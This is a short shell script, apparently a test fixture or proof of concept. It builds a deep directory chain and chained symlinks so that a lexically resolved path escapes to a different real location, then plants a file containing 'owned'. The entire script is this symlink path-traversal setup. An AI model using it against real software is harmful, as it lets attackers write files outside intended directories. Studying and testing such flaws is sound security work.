# Forty folders down, and in one step up again: by its words a path through `up` comes back to where it began.
deep=$(printf 'd/%.0s' $(seq 40))
back=$(printf '../%.0s' $(seq 41))
mkdir -p "$deep" .takehome "$1/python"
ln -s "$(printf '../%.0s' $(seq 40))" "${deep}up"
ln -s "../${deep}up/${back}{folder}" .takehome/python
echo owned > "$1/python/planted"
